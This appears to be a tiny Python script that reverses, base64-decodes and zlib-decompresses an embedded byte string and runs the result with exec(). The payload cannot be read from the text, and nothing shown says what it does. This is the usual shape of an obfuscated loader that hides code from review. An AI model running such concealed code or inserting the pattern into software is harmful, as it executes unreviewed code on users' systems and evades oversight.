import base64, zlib
_ = lambda __: zlib.decompress(base64.b64decode(__[::-1]))
exec((_)(b"=U/GQzaAzTgPqcG+dJRpS9HUigL1uPwNGPS5S5+9jZwnBuXM4GjWpVrTXwLEOVZquQ9QGP6xn/2pkilxTCvGGwabvHnLTi4UdDNAMACwKszyNwJe"))
